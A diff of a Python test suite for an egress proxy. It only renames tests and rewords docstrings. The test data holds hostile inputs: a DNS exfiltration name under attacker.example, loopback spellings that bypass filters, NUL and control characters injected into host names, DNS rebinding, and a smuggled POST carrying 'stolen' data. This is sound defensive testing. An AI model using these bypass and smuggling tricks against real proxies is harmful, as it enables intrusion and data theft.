@@ -1,7 +1,7 @@
-"""Attacks of the catalogue (A66-A77) that go through the proxy, each beside a control that shows it bite.
+"""Attacks of the catalogue (A66-A77) through the proxy, each with a control that shows that it works.
 
-The control is a relay without any checks in the same world, or rules that allow what the attack wants. What needs no
-proxy at all is tried in the real sandbox, in `test_proxy_sandbox`.
+The control is a relay without checks in the same world, or rules that allow what the attack wants. Attacks without a
+proxy are tried in the real sandbox, in `test_proxy_sandbox`.
 """
 
 import socket
@@ -40,7 +40,7 @@ NOT_PUBLIC = (
 
 
 class Patient(Host):
-    """Hears everything before it answers."""
+    """Receive everything before answering."""
 
     async def handle(self, stream: anyio.abc.ByteStream) -> None:
         self.heard = await everything(stream)
@@ -51,10 +51,10 @@ def connect_to(target: str) -> bytes:
     return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1")
 
 
-# -- A67: names that are questions to somebody's name server --
+# -- A67: names that are requests to a name server --
 
 
-async def test_a_name_that_is_not_allowed_is_not_even_looked_up() -> None:
+async def test_a_host_that_is_not_allowed_is_not_resolved() -> None:
     stolen = "c2VjcmV0.attacker.example"
     world = World({stolen: [PUBLIC]}, {PUBLIC: 9})
     async with proxying(RULES, world) as door:
@@ -72,7 +72,7 @@ async def test_a_name_that_is_not_allowed_is_not_even_looked_up() -> None:
             assert world.asked == [stolen]
 
 
-# -- A68: the same host, written in another way --
+# -- A68: the same host in another spelling --
 
 
 @pytest.mark.parametrize("host", LOOPBACK_SPELLINGS)
@@ -87,7 +87,7 @@ async def test_the_loopback_is_refused_in_every_spelling(host: str) -> None:
 
 
 @pytest.mark.parametrize("host", ["127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "[127.0.0.1]"])
-async def test_without_checks_every_spelling_of_the_loopback_is_reached(host: str) -> None:
+async def test_without_the_checks_every_spelling_of_the_loopback_is_reachable(host: str) -> None:
     async with a_host() as daemon, careless_proxy(World()) as door, door.tunnel(f"{host}:{daemon.port}") as (stream, _):
         await stream.send(b"hello")
         assert await everything(stream) == daemon.answer
@@ -96,7 +96,7 @@ async def test_without_checks_every_spelling_of_the_loopback_is_reached(host: st
 @pytest.mark.parametrize(
     "host", ["API.EXAMPLE", "api.example.", "Api.Example.", "a.CDN.example.", "XN--BCHER-KVA.example"]
 )
-async def test_an_allowed_host_is_allowed_in_every_spelling_and_looked_up_in_one(host: str) -> None:
+async def test_an_allowed_host_is_allowed_in_every_spelling_and_resolved_in_one(host: str) -> None:
     name = host.lower().removesuffix(".")
     async with a_host() as beyond:
         world = World({name: [PUBLIC]}, {PUBLIC: beyond.port})
@@ -110,17 +110,17 @@ async def test_an_allowed_host_is_allowed_in_every_spelling_and_looked_up_in_one
 @pytest.mark.parametrize(
     "host", ["api.example.evil", "evilapi.example", "cdn.example", "xcdn.example", "api.example.."]
 )
-async def test_a_host_that_only_looks_like_an_allowed_one_is_refused(host: str) -> None:
+async def test_a_host_that_looks_like_an_allowed_one_is_refused(host: str) -> None:
     async with proxying(RULES) as door:
         assert (await door.ask(connect_to(f"{host}:443")))[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400")
     assert door.world.asked == []
 
 
-# -- A69: names that two parsers read in two ways --
+# -- A69: names that two parsers read differently --
 
 
 @pytest.mark.parametrize("letter", ["\0", "\r", "\n", " ", "\t", "@", "\\", "%00", "%", "/", "#", "?", "\x7f", "ü"])
-async def test_a_name_with_a_letter_that_no_name_has_is_a_bad_request(letter: str) -> None:
+async def test_a_host_name_with_an_invalid_character_is_a_bad_request(letter: str) -> None:
     for name in (f"evil.example{letter}.cdn.example", f"evil.example{letter}a.cdn.example"):
         async with proxying(RULES) as door:
             assert (await door.ask(connect_to(f"{name}:443"))).startswith(b"HTTP/1.1 400 ")
@@ -129,7 +129,7 @@ async def test_a_name_with_a_letter_that_no_name_has_is_a_bad_request(letter: st
         assert door.world.asked == [] and door.world.dialled == []
 
 
-async def test_without_checks_a_name_is_cut_at_its_nul() -> None:
+async def test_without_the_checks_a_name_is_cut_at_its_nul_character() -> None:
     async with a_host() as attacker:
         world = World({"evil.example": [PUBLIC]}, {PUBLIC: attacker.port})
         async with careless_proxy(world) as door, door.tunnel("evil.example\0.cdn.example:443") as (stream, _):
@@ -138,7 +138,7 @@ async def test_without_checks_a_name_is_cut_at_its_nul() -> None:
     assert attacker.heard == b"stolen"
 
 
-# -- A70: an allowed name that means something else --
+# -- A70: an allowed name with another meaning --
 
 
 @pytest.mark.parametrize("address", NOT_PUBLIC)
@@ -158,7 +158,7 @@ async def test_an_allowed_name_with_the_address_of_this_machine_is_refused() -> 
     assert world.dialled == []
 
 
-async def test_without_checks_an_allowed_name_leads_to_the_loopback() -> None:
+async def test_without_the_checks_an_allowed_name_leads_to_the_loopback() -> None:
     async with a_host() as daemon:
         world = World({"api.example": ["127.0.0.1"]})
         async with careless_proxy(world) as door, door.tunnel(f"api.example:{daemon.port}") as (stream, _):
@@ -166,8 +166,8 @@ async def test_without_checks_an_allowed_name_leads_to_the_loopback() -> None:
             assert await everything(stream) == daemon.answer
 
 
-async def test_a_name_is_resolved_once_and_the_address_that_was_looked_at_is_dialled() -> None:
-    """A name server that answers differently the second time is not asked a second time."""
+async def test_a_name_is_resolved_once_and_the_checked_address_is_dialled() -> None:
+    """A name server that answers differently the second time is asked only once."""
 
     class Rebinding(World):
         async def resolve(self, host: str, port: int) -> list[str]:
@@ -203,7 +203,7 @@ async def test_tls_for_another_host_does_not_go_through_a_tunnel(name: str | Non
         assert front.heard[:3] == b"\x16\x03\x01"
 
 
-async def test_an_address_needs_no_name_in_its_hello_but_a_name_must_not_be_another() -> None:
+async def test_a_tunnel_to_an_address_needs_no_server_name_but_a_wrong_one_is_refused() -> None:
     async with a_host() as beyond:
         world = World(leads_to={PUBLIC: beyond.port})
         async with proxying(Rules(hosts=(PUBLIC,)), world) as door:
@@ -219,7 +219,7 @@ async def test_an_address_needs_no_name_in_its_hello_but_a_name_must_not_be_anot
 
 @pytest.mark.parametrize("words", [b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"SSH-2.0-evil\r\n", b"\x16\x02\0"])
 @pytest.mark.parametrize("port", [443, 80])
-async def test_what_is_not_tls_does_not_go_through_a_tunnel(words: bytes, port: int) -> None:
+async def test_data_that_is_not_tls_does_not_go_through_a_tunnel(words: bytes, port: int) -> None:
     async with a_host() as front:
         world = World({"api.example": [PUBLIC]}, {PUBLIC: front.port})
         async with proxying(RULES, world) as door, door.tunnel(f"api.example:{port}") as (stream, _):
@@ -232,7 +232,7 @@ async def test_what_is_not_tls_does_not_go_through_a_tunnel(words: bytes, port: 
         assert front.heard == words
 
 
-async def test_a_request_in_the_clear_names_one_host_only() -> None:
+async def test_an_unencrypted_request_names_one_host() -> None:
     request = b"GET http://api.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
     async with a_host() as front:
         world = World({"api.example": [PUBLIC]}, {PUBLIC: front.port})
@@ -247,7 +247,7 @@ async def test_a_request_in_the_clear_names_one_host_only() -> None:
 # -- A73, A74: nothing allowed, and the loopback as a target --
 
 
-async def test_empty_rules_refuse_every_host_through_the_proxy_as_well() -> None:
+async def test_with_empty_rules_the_proxy_refuses_every_host() -> None:
     async with a_host() as beyond:
         world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
         request = b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n"
@@ -260,7 +260,7 @@ async def test_empty_rules_refuse_every_host_through_the_proxy_as_well() -> None
 
 
 @pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", socket.gethostname()])
-async def test_the_proxy_is_no_relay_to_a_port_of_this_machine_unless_it_was_named(host: str) -> None:
+async def test_the_proxy_connects_to_a_local_port_only_if_it_is_named(host: str) -> None:
     async with a_host() as daemon:
         for rules in (RULES, Rules(anything_public=True, ports=(daemon.port,))):
             async with proxying(rules, real=OUTSIDE) as door:
@@ -272,11 +272,11 @@ async def test_the_proxy_is_no_relay_to_a_port_of_this_machine_unless_it_was_nam
             assert await everything(stream) == daemon.answer
 
 
-# -- A75: writing to a host that may be read --
+# -- A75: writing to a host that may only be read --
 
 
 @pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get"])
-async def test_only_reading_requests_go_to_an_allowed_host_in_the_clear(method: str) -> None:
+async def test_only_read_requests_go_unencrypted_to_an_allowed_host(method: str) -> None:
     request = f"{method} http://api.example/push HTTP/1.1\r\nHost: api.example\r\n\r\n".encode()
     async with a_host() as beyond:
         world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
@@ -298,7 +298,7 @@ async def test_only_reading_requests_go_to_an_allowed_host_in_the_clear(method: 
         b"\r\nPOST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nContent-Length: 6\r\n\r\nstolen",
     ],
 )
-async def test_a_reading_request_carries_no_body_and_nothing_behind_it(rest: bytes) -> None:
+async def test_a_read_request_has_no_body_and_no_data_after_it(rest: bytes) -> None:
     request = b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n" + rest
     async with a_host() as beyond:
         world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
@@ -314,7 +314,7 @@ async def test_a_reading_request_carries_no_body_and_nothing_behind_it(rest: byt
     assert b"stolen" in beyond.heard
 
 
-async def test_the_log_tells_how_much_went_to_which_host_and_which_address() -> None:
+async def test_the_log_shows_bytes_host_and_address_of_a_connection() -> None:
     async with a_host(Host(b"HTTP/1.1 200 OK\r\n\r\n" + b"x" * 1000)) as beyond:
         world = World({"a.cdn.example": [PUBLIC_TOO]}, {PUBLIC_TOO: beyond.port})
         async with proxying(RULES, world) as door:
@@ -325,11 +325,11 @@ async def test_the_log_tells_how_much_went_to_which_host_and_which_address() -> 
     assert (entry.bytes_up, entry.bytes_down) == (len(beyond.heard), 1019)
 
 
-# -- A77: a proxy that breaks --
+# -- A77: a broken proxy --
 
 
-async def test_a_proxy_that_breaks_is_a_closed_door() -> None:
-    """Here its log cannot be written; whatever nobody expected ends the door and with it every connection."""
+async def test_a_broken_proxy_lets_nothing_through() -> None:
+    """Here its log cannot be written; any unexpected error ends the proxy and every connection."""
 
     def full(entry: ConnectionLog) -> None:
         raise MemoryError(entry.host)
